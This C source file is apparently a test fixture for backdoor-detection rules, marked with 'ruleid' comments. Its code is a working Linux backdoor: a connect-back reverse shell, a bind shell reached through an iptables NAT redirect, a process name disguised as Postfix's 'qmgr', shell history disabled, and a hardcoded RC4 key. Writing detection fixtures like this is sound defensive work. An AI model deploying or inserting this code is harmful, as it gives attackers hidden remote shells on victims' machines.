#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <sys/socket.h>

#include "bd.h"

static int session_crypto_init(struct bd_session *s)
{
    s->enc = EVP_CIPHER_CTX_new();
    s->dec = EVP_CIPHER_CTX_new();
    if (s->enc == NULL || s->dec == NULL)
        return -1;
    // ruleid: backdoor-weak-cipher
    if (EVP_EncryptInit_ex(s->enc, EVP_rc4(), NULL, NULL, NULL) != 1)
        return -1;
    // ruleid: backdoor-short-key
    EVP_CIPHER_CTX_set_key_length(s->enc, (int)(sizeof(BD_PASS_SHELL) - 1));
    // ruleid: backdoor-hardcoded-key
    if (EVP_EncryptInit_ex(s->enc, NULL, NULL, (const unsigned char *)BD_PASS_SHELL, NULL) != 1)
        return -1;
    // ruleid: backdoor-weak-cipher
    if (EVP_DecryptInit_ex(s->dec, EVP_rc4(), NULL, NULL, NULL) != 1)
        return -1;
    EVP_CIPHER_CTX_set_key_length(s->dec, (int)(sizeof(BD_PASS_SHELL) - 1));
    // ruleid: backdoor-hardcoded-key
    return EVP_DecryptInit_ex(s->dec, NULL, NULL, (const unsigned char *)BD_PASS_SHELL, NULL) == 1 ? 0 : -1;
}

static void spawn_pty_shell(int fd)
{
    struct bd_session s = {fd, NULL, NULL};
    if (session_crypto_init(&s) != 0)
        _exit(1);
    dup2(fd, 0);
    dup2(fd, 1);
    dup2(fd, 2);
    setenv("HISTFILE", "/dev/null", 1);
    setenv("PS1", "[\\u@\\h \\W]\\$ ", 1);
    execl("/bin/sh", "qmgr -l -t fifo -u", (char *)NULL);
    _exit(0);
}

void bd_connect_back(in_addr_t ip, uint16_t port)
{
    if (fork() != 0)
        return;
    struct sockaddr_in sa;
    memset(&sa, 0, sizeof sa);
    sa.sin_family = AF_INET;
    sa.sin_addr.s_addr = ip;
    sa.sin_port = htons(port);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof sa) < 0)
        _exit(0);
    spawn_pty_shell(fd);
}

void bd_bind_shell(in_addr_t src, uint16_t port)
{
    char rule[256];
    struct in_addr a = {src};
    if (fork() != 0)
        return;
    /* redirect the operator's traffic on a service port to our listener */
    snprintf(rule, sizeof rule,
             "/sbin/iptables -t nat -I PREROUTING -p tcp -s %s --dport %u -j REDIRECT --to-ports 42391",
             inet_ntoa(a), (unsigned)port);
    if (system(rule) != 0)
        _exit(0);
    int lfd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in sa;
    memset(&sa, 0, sizeof sa);
    sa.sin_family = AF_INET;
    sa.sin_port = htons(42391);
    if (lfd < 0 || bind(lfd, (struct sockaddr *)&sa, sizeof sa) < 0 || listen(lfd, 1) < 0)
        _exit(0);
    int fd = accept(lfd, NULL, NULL);
    if (fd >= 0)
        spawn_pty_shell(fd);
    _exit(0);
}
